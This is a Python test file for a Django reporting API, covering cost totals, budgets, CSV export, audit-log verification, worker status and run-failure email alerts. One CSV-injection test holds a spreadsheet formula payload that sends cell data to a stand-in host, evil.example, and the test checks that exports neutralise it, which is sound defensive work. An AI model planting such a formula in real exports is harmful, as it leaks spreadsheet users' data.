"""The report pages' API: cost totals, rows, budgets and CSV against sums made in SQL; audit filters, verification and export; workers; run alerts by email."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, User
from django.core import mail
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.authentication import ROLES
from audit.models import AuditEntry
from graphs.models import Graph
from runs.models import Step, Worker
from runs.reports.alerts import alert_set
from runs.services import run_start
from tests.support import engine
from tests.support.audit import tamper
from tests.support.costs import MICRO, crash_rerun_run, llm_spec, make_spend, sql_by, sql_totals
from tests.support.leases import begun, dead_owner, pay_version, run_at_pay
from tests.support.specs import chain, graph, node, publish, run_local, transform

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("fast_passwords")]


def client_for(user: User) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def admin() -> User:
    return User.objects.create_user("root", password="pw-root-1", is_staff=True, is_superuser=True, email="root@example.com")


def user_in(name: str, *groups: str, email: str = "") -> User:
    user = User.objects.create_user(name, password=f"pw-{name}-1", email=email)
    for role in ROLES:
        Group.objects.get_or_create(name=role)
    user.groups.set(Group.objects.filter(name__in=groups))
    return user


def money(value: str) -> Decimal:
    return Decimal(value).quantize(MICRO)


# --------------------------------------------------------------------------- costs


def test_cost_totals_equal_the_sql_sums_for_an_admin_and_for_a_user_who_reads_only_her_runs(sdk_providers):  # noqa: F811
    spend = make_spend(unpriced=sdk_providers)
    root = admin()
    expected = sql_totals()
    # The world has each kind of spend, so the comparison below cannot pass by zeros.
    assert expected["retry_attempts"] == 1 and expected["crash_rerun_attempts"] == 1 and expected["unpriced_attempts"] == 1
    assert expected["retry_cost_usd"] > 0 and expected["crash_rerun_cost_usd"] > 0
    body = client_for(root).get("/api/v1/costs/totals/").json()
    for key, value in expected.items():
        got = money(body[key]) if key.endswith("_usd") else body[key]
        assert got == value, (key, got, value)
    assert money(body["first_cost_usd"]) == expected["cost_usd"] - expected["retry_cost_usd"] - expected["crash_rerun_cost_usd"]
    assert body["first_attempts"] == expected["attempts"] - 2

    # ana reads only the runs she started: ben's "hidden" run is not in her totals.
    ana = spend.users["ana"]
    mine = sql_totals(user_id=ana.pk)
    assert mine["cost_usd"] < expected["cost_usd"]
    body = client_for(ana).get("/api/v1/costs/totals/").json()
    assert money(body["cost_usd"]) == mine["cost_usd"] and body["attempts"] == mine["attempts"]


def test_cost_rows_by_graph_and_day_agree_with_sql_and_with_the_totals():
    make_spend()
    client = client_for(admin())
    by_graph = sql_by("graph")
    rows = client.get("/api/v1/costs/?group_by=graph&page_size=500").json()["results"]
    assert {r["label"]: money(r["cost_usd"]) for r in rows} == by_graph
    rows = client.get("/api/v1/costs/?group_by=day&page_size=500").json()["results"]
    assert {r["key"]: money(r["cost_usd"]) for r in rows} == sql_by("day")
    total = money(client.get("/api/v1/costs/totals/").json()["cost_usd"])
    for group in ("node", "model", "run", "step"):
        rows = client.get(f"/api/v1/costs/?group_by={group}&page_size=500").json()["results"]
        assert sum(money(r["cost_usd"]) for r in rows) == total, group
    # The costliest first: mock-large's "hidden" and "beta" runs lead the runs.
    rows = client.get("/api/v1/costs/?group_by=run&order=-cost_usd&page_size=2").json()["results"]
    costs = [money(r["cost_usd"]) for r in rows]
    assert costs == sorted(costs, reverse=True) and {r["label"] for r in rows} == {"hidden", "beta"}
    nodes = client.get("/api/v1/costs/?group_by=node&page_size=500").json()["results"]
    assert {(r["label"], r["key"]) for r in nodes} >= {("alpha", "ask"), ("beta", "ask")}
    assert all(isinstance(r["graph"], int) for r in nodes)


def test_retry_and_crash_rerun_spend_is_told_apart_per_row():
    make_spend()
    rows = {r["label"]: r for r in client_for(admin()).get("/api/v1/costs/?group_by=graph").json()["results"]}
    assert rows["beta"]["retry_attempts"] == 1 and rows["beta"]["crash_rerun_attempts"] == 0
    assert money(rows["beta"]["retry_cost_usd"]) == money(rows["beta"]["cost_usd"])  # its failed attempt billed nothing
    assert rows["gamma"]["crash_rerun_attempts"] == 1 and money(rows["gamma"]["crash_rerun_cost_usd"]) > 0
    assert rows["alpha"]["retry_attempts"] == rows["alpha"]["crash_rerun_attempts"] == 0


def test_an_unknown_price_is_unknown_not_zero(sdk_providers):  # noqa: F811
    make_spend(unpriced=sdk_providers)
    client = client_for(admin())
    [row] = [r for r in client.get("/api/v1/costs/?group_by=model").json()["results"] if r["key"] == "my-finetune-7b"]
    assert row["unpriced_attempts"] == row["attempts"] == 1 and row["input_tokens"] == 100
    response = client.get("/api/v1/costs/export/?group_by=model")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    table = {r["model"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
    assert table["my-finetune-7b"]["cost_usd"] == "unknown"
    assert money(table["mock-1"]["cost_usd"]) > 0 and table["mock-1"]["unpriced_attempts"] == "0"


def test_csv_export_holds_the_rows_and_the_totals_of_the_page():
    make_spend()
    client = client_for(admin())
    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/costs/export/?group_by=run&order=-cost_usd").content.decode())))
    assert len(rows) == 5
    assert sum(money(r["cost_usd"]) for r in rows) == sql_totals()["cost_usd"]
    assert [money(r["cost_usd"]) for r in rows] == sorted((money(r["cost_usd"]) for r in rows), reverse=True)
    steps = list(csv.DictReader(io.StringIO(client.get("/api/v1/costs/export/?group_by=step").content.decode())))
    assert {"step", "label", "run"} <= set(steps[0])


def test_csv_exports_write_formula_like_text_as_text():
    # OWASP "CSV Injection": a graph named like a formula must not run in the reader's spreadsheet.
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    run_local(llm_spec(evil, reply="hi"), {})
    client = client_for(admin())
    rows = {r["label"]: r for r in csv.DictReader(io.StringIO(client.get("/api/v1/costs/export/?group_by=graph").content.decode()))}
    assert "'" + evil in rows and evil not in rows
    assert all(not r["label"].startswith(("=", "+", "-", "@")) for r in rows.values())
    audit = client.get("/api/v1/audit/export/?kind=csv")
    lines = list(csv.reader(io.StringIO(b"".join(audit.streaming_content).decode())))
    assert lines and all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line)


def test_date_range_filters_the_spend_by_day():
    make_spend()
    client = client_for(admin())
    today = timezone.now().date()
    assert money(client.get(f"/api/v1/costs/totals/?since={today}&until={today}").json()["cost_usd"]) == sql_totals()["cost_usd"]
    yesterday = today - timedelta(days=1)
    body = client.get(f"/api/v1/costs/totals/?until={yesterday}").json()
    assert body["attempts"] == 0 and money(body["cost_usd"]) == 0
    bad = client.get(f"/api/v1/costs/totals/?since={today}&until={yesterday}")
    assert bad.status_code == 400 and "until" in bad.json()["error"]["fields"]
    bad = client.get("/api/v1/costs/?since=yesterday")
    assert bad.status_code == 400 and "since" in bad.json()["error"]["fields"]
    assert client.get("/api/v1/costs/?order=cheapest").status_code == 400


def test_budgets_show_spend_against_each_graphs_run_budget():
    spend = make_spend()
    [row] = client_for(admin()).get("/api/v1/costs/budgets/").json()
    alpha = [spend.runs["alpha1"], spend.runs["alpha2"]]
    assert (row["label"], row["runs"], money(row["budget_usd"])) == ("alpha", 2, Decimal(1))
    assert money(row["cost_usd"]) == sum((r.cost_usd for r in alpha), Decimal(0)).quantize(MICRO)
    assert row["near_budget"] == 0 and row["stopped_by_budget"] == 0
    # ben reads none of alpha's runs: no budget row for him.
    assert client_for(spend.users["ben"]).get("/api/v1/costs/budgets/").json() == []


# --------------------------------------------------------------------------- audit


def test_audit_filters_verify_and_export():
    run_local(graph([node("start", "start"), transform("t", y="1"), node("end", "end")], chain("start", "t", "end"), name="audited"), {})
    root = admin()
    client = client_for(root)
    facets = client.get("/api/v1/audit/facets/").json()
    assert "run.start" in facets["action"] and "run" in facets["object_type"]
    rows = client.get("/api/v1/audit/?action=run.start").json()["results"]
    assert rows and all(r["action"] == "run.start" for r in rows)
    today = timezone.now().date()
    assert client.get(f"/api/v1/audit/?since={today}").json()["results"]
    assert client.get(f"/api/v1/audit/?until={today - timedelta(days=1)}").json()["results"] == []

    report = client.get("/api/v1/audit/verify/").json()
    assert report["ok"] is True and report["entries"] == AuditEntry.objects.count() and report["problems"] == []

    lines = b"".join(client.get("/api/v1/audit/export/?kind=jsonl&action=run.start").streaming_content).decode().splitlines()
    assert [json.loads(line)["action"] for line in lines] == ["run.start"] * len(rows)
    table = list(csv.DictReader(io.StringIO(b"".join(client.get("/api/v1/audit/export/").streaming_content).decode())))
    assert len(table) == AuditEntry.objects.count() and table[0]["hash"]


def test_audit_entries_name_graph_versions_by_graph_and_number():
    publish(graph([node("start", "start"), node("end", "end")], chain("start", "end"), name="other"))  # ids and numbers differ
    spec = graph([node("start", "start"), transform("t", y="1"), node("end", "end")], chain("start", "t", "end"), name="versioned")
    publish(spec)
    second = publish({**spec, "description": "v2"})
    run_local(second, {})
    rows = client_for(admin()).get("/api/v1/audit/?page_size=50").json()["results"]
    expected = {"id": second.pk, "number": 2, "graph": second.graph_id, "graph_name": "versioned", "is_test": False}
    assert second.pk != 2
    published = next(r for r in rows if r["action"] == "graph.publish" and r["object_id"] == str(second.pk))
    assert published["object_type"] == "graphversion" and published["version"] == expected
    started = next(r for r in rows if r["action"] == "run.start")
    assert started["data"]["graph_version"] == second.pk and started["version"] == expected  # the chained entry keeps the id
    assert all(r["version"] is None for r in rows if r["action"] not in ("graph.publish", "run.start"))


def test_audit_verification_reports_an_edited_entry():

    run_local(graph([node("start", "start"), node("end", "end")], chain("start", "end"), name="tampered"), {})
    entry = AuditEntry.objects.filter(action="run.start").first()
    tamper(entry.pk, actor="mallory")
    report = client_for(admin()).get("/api/v1/audit/verify/").json()
    assert report["ok"] is False
    assert any(p["entry_id"] == entry.pk and "edited" in p["message"] for p in report["problems"])


def test_audit_endpoints_are_for_admins_only():
    client = client_for(user_in("bo", "builders", "operators", "approvers"))
    for path in ("/api/v1/audit/verify/", "/api/v1/audit/facets/", "/api/v1/audit/export/"):
        response = client.get(path)
        assert response.status_code == 403, path
        assert response.json()["error"]["code"] == "permission_denied"
    assert client_for(admin()).get("/api/v1/audit/export/?kind=xml").status_code == 400


# --------------------------------------------------------------------------- workers


def test_workers_show_heartbeats_in_flight_steps_and_the_queue():
    now = timezone.now()
    owner = dead_owner()
    host, pid, _ = owner.rsplit(":", 2)
    Worker.objects.create(name=owner, host=host, pid=int(pid), started_at=now, heartbeat_at=now)
    Worker.objects.create(name="far:42:1", host="far", pid=42, started_at=now, heartbeat_at=now - timedelta(minutes=10))
    run, pay = run_at_pay(pay_version())
    assert engine.step_claim(pay.pk, owner) is not None
    with engine.local_mode():
        run_start(version=pay_version(), run_input={})  # a start step pending: queue depth 1
    body = client_for(admin()).get("/api/v1/workers/").json()
    workers = {w["name"]: w for w in body["workers"]}
    assert workers[owner]["alive"] is False  # its process is gone, though it beat just now
    assert [s["id"] for s in workers[owner]["in_flight"]] == [pay.pk]
    assert workers[owner]["in_flight"][0]["node_id"] == "pay" and workers[owner]["in_flight"][0]["run"] == run.pk
    assert workers["far:42:1"]["alive"] is False and workers["far:42:1"]["seconds_since_heartbeat"] >= 600
    assert body["queue"]["ready"] == 1 and body["queue"]["running"] == 1
    assert body["unattributed"] == []


def test_a_graphs_named_operator_sees_only_its_runs_steps_and_a_count_of_the_others():
    now = timezone.now()
    owner = dead_owner()
    host, pid, _ = owner.rsplit(":", 2)
    Worker.objects.create(name=owner, host=host, pid=int(pid), started_at=now, heartbeat_at=now)
    mine, theirs = pay_version(), pay_version()
    named = User.objects.create_user("nina", password="pw-nina-1")
    mine.graph.operators.add(named)
    steps = {}
    for name, version in (("mine", mine), ("theirs", theirs)):
        run, pay = run_at_pay(version)
        assert engine.step_claim(pay.pk, owner) is not None
        steps[name] = (run, pay)
    body = client_for(named).get("/api/v1/workers/").json()
    [worker] = body["workers"]
    assert [s["run"] for s in worker["in_flight"]] == [steps["mine"][0].pk]  # not the other graph's run, graph or node
    assert worker["in_flight_hidden"] == 1 and body["queue"]["running"] == 2
    assert theirs.graph.name not in json.dumps(body)
    full = client_for(admin()).get("/api/v1/workers/").json()["workers"][0]
    assert len(full["in_flight"]) == 2 and full["in_flight_hidden"] == 0


def test_workers_are_for_admins_and_operators():
    assert client_for(user_in("op", "operators")).get("/api/v1/workers/").status_code == 200
    assert client_for(user_in("bob", "builders", "approvers")).get("/api/v1/workers/").status_code == 403


# --------------------------------------------------------------------------- run alerts


def failing_spec(name: str) -> dict:
    return graph(
        [node("start", "start"), transform("boom", y="x / zero"), node("end", "end")], chain("start", "boom", "end"), name=name,
        input_schema={"type": "object", "properties": {"x": {"type": "integer"}, "zero": {"type": "integer"}}},
    )


def test_an_owner_subscribes_and_gets_an_email_when_a_run_fails(settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    owner = user_in("olga", "builders", email="olga@example.com")
    version = publish(failing_spec("fragile"))
    graph_id = version.graph_id
    client = client_for(owner)
    assert client.get(f"/api/v1/graphs/{graph_id}/alerts/").json()["subscribed"] is False
    body = client.put(f"/api/v1/graphs/{graph_id}/alerts/", {"on_failed": True, "on_parked": True}, format="json").json()
    assert body["subscribed"] is True and body["email"] == "olga@example.com"
    run_local(version, {"x": 1, "zero": 1})  # succeeds: no email
    assert mail.outbox == []
    run = run_local(version, {"x": 1, "zero": 0})
    assert run.status == "failed"
    [message] = mail.outbox
    assert message.to == ["olga@example.com"] and f"Run {run.pk}" in message.subject and "failed" in message.subject
    assert f"/runs/{run.pk}/" in message.body and "division" in message.body.lower()
    # Turned off: no more emails.
    client.put(f"/api/v1/graphs/{graph_id}/alerts/", {"on_failed": False, "on_parked": False}, format="json")
    run_local(version, {"x": 1, "zero": 0})
    assert len(mail.outbox) == 1


def test_a_parked_run_emails_its_subscribers_after_the_park_committed(settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    owner = user_in("pia", "operators", email="pia@example.com")
    version = pay_version(unsafe=True)
    alert_set(user=owner, graph=version.graph, on_failed=False, on_parked=True)
    run, pay = run_at_pay(version)
    begun(engine.step_claim(pay.pk, dead_owner()))
    engine.recover_once()
    assert Step.objects.get(pk=pay.pk).status == "parked"
    [message] = mail.outbox
    assert message.to == ["pia@example.com"] and "needs a decision" in message.subject and "pay" in message.body


def test_only_a_graphs_owners_may_subscribe():
    version = publish(failing_spec("guarded"))
    outsider = user_in("val", "approvers", email="val@example.com")
    response = client_for(outsider).put(f"/api/v1/graphs/{version.graph_id}/alerts/", {"on_failed": True, "on_parked": False}, format="json")
    assert response.status_code == 403 and response.json()["error"]["code"] == "permission_denied"
    creator = user_in("cy", email="cy@example.com")
    Graph.objects.filter(pk=version.graph_id).update(created_by=creator)
    assert client_for(creator).get(f"/api/v1/graphs/{version.graph_id}/alerts/").status_code == 200
    bad = client_for(creator).put(f"/api/v1/graphs/{version.graph_id}/alerts/", {"on_failed": "maybe"}, format="json")
    assert bad.status_code == 400 and {"on_failed", "on_parked"} <= set(bad.json()["error"]["fields"])
    assert client_for(creator).get("/api/v1/graphs/999999/alerts/").status_code == 404


def test_crash_rerun_helper_really_loses_the_first_attempt():
    run = crash_rerun_run(llm_spec("crashy"))
    attempts = list(Step.objects.get(run=run, node_id="ask").attempts.values_list("number", "status"))
    assert attempts == [(1, "lost"), (2, "succeeded")]
